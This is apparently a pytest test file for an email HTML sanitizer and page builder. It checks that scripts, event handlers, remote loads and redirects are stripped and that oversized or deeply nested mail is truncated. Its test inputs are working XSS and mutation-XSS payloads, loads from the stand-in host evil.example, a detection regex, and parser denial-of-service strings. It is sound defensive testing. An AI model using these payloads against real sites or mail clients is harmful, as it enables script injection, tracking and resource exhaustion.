"""What is left of the html of mail, and what a page of it is."""

import re
import time

import pytest

from shared.adapters.html_cleaning import clean
from shared.mail.page import MOST_CHARACTERS, MOST_TAGS, data_address, page_of
from shared.mail.parsed import Mail

DOT = data_address("image/PNG", b"dot")
# Nothing that runs, loads, sends, frames or leads away, in whatever spelling.
BAD = re.compile(
    r"<(script|style|svg|iframe|form|input|object|embed|link|meta|base|video|math)|\son\w+=|href|https?:|url\(|javascript:",
    re.IGNORECASE,
)


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<SCRIPT/x>alert(1)</SCRIPT >",
        "<img src=x onerror=alert(1)>",
        '<img src="https://evil.example/p.png" srcset="https://evil.example/2.png 2x">',
        '<img src="//evil.example/p.png">',
        '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
        '<img src="data:text/html;base64,PHN2Zz4=">',
        '<svg onload="alert(1)"><script>alert(1)</script><image href="https://evil.example"/></svg>',
        '<a href="javascript:alert(1)">x</a>',
        '<a href="https://evil.example" ping="https://evil.example" target=_top>x</a>',
        '<area href="https://evil.example"><map><area href="https://evil.example"></map>',
        '<iframe src="https://evil.example" srcdoc="<script>alert(1)</script>"></iframe>',
        '<form action="https://evil.example"><input name=password><button formaction="https://evil.example">x</button></form>',
        '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/">',
        '<link rel=stylesheet href="https://evil.example"><style>@import url(https://evil.example);</style>',
        '<p style="background:url(https://evil.example)">x</p>',
        '<p style="background-color:u\\72l(https://evil.example)">x</p>',
        '<table background="https://evil.example"><tr><td background="https://evil.example">x</td></tr></table>',
        '<video poster="https://evil.example" src="https://evil.example"></video><embed src="https://evil.example">',
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
        '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
        "<!--><img src=x onerror=alert(1)>-->",
        "<blockquote cite='https://evil.example'>x</blockquote>",
    ],
)
def test_nothing_is_left_that_runs_loads_or_leads_away(html: str) -> None:
    """Whatever a mail tries."""
    assert [] == BAD.findall(clean(html, {}))


def test_what_a_reader_needs_is_left() -> None:
    """Text, tables, colours, and pictures that come with the mail."""
    html = (
        '<h1 style="color:red">A</h1><table width="9"><tr><td bgcolor="#fff">B</td></tr></table>'
        f'<img src="CID:&lt;dot&gt;"><img src="{DOT}">'
    )

    assert (
        '<h1 style="color:red">A</h1><table width="9"><tbody><tr><td bgcolor="#fff">B</td></tr></tbody></table>'
        f'<img src="{DOT}"><img src="{DOT}">'
    ) == clean(html, {"dot": DOT})


def test_a_page_of_text_is_text() -> None:
    """Where a mail has no html, its text is shown, and no markup in it counts."""
    page = page_of(Mail(text="<script>alert(1)</script>"), {}, clean)

    assert "<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre></body></html>" in page
    assert "left out" not in page


@pytest.mark.parametrize(
    ("html", "text"),
    [("x" * (MOST_CHARACTERS + 1), ""), ("<br>" * (MOST_TAGS + 1), ""), ("", "x" * (MOST_CHARACTERS + 1))],
)
def test_a_page_is_cut_where_it_grows_too_long(html: str, text: str) -> None:
    """And says so."""
    page = page_of(Mail(html=html, text=text), {}, clean)

    assert "The rest is left out here" in page
    assert len(page) < MOST_CHARACTERS + 1000


def test_tags_within_tags_without_end_are_no_way_to_hold_a_worker() -> None:
    """A parser takes time by the square of the depth; so the depth has an end."""
    began = time.process_time()
    page_of(Mail(html="<div>" * 200_000), {}, clean)

    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    "html",
    [
        "<p " + " ".join(f"{n:x}" for n in range(180_000)) + ">x",
        "<!-- <p title=' --><p title='>'" + "/".join(f"{n:x}" for n in range(180_000)) + ">x",
        "&" * MOST_CHARACTERS,
        "<p a='" * MOST_TAGS + "x" * 900_000,
    ],
    ids=["attributes", "hidden", "entities", "quotes"],
)
@pytest.mark.timeout(20)
def test_hostile_html_holds_no_worker(html: str) -> None:
    """Thousands of attributes in a tag, or of entities in a text, take parsers quadratic time: the page ends there."""
    assert "The rest is left out" in page_of(Mail(html=html), {}, clean)


def test_many_attributes_and_entities_are_no_fault() -> None:
    """What mail of real senders has is shown whole."""
    html = f"<p title='{'a > b ' * 900}'>{'&nbsp;' * 9000}</p>" * 3

    assert "The rest is left out" not in page_of(Mail(html=html), {}, clean)


def test_a_picture_that_is_named_thousands_of_times_is_shown_while_there_is_room() -> None:
    """A page would else be as large as the picture times its names: gigabytes."""
    picture = data_address("image/png", bytes(1024 * 1024))
    page = page_of(Mail(html="<img src='cid:a'>" * 5000), {"a": picture}, clean)

    assert 11 == page.count(picture)
    assert len(page) < 17 * 1024 * 1024
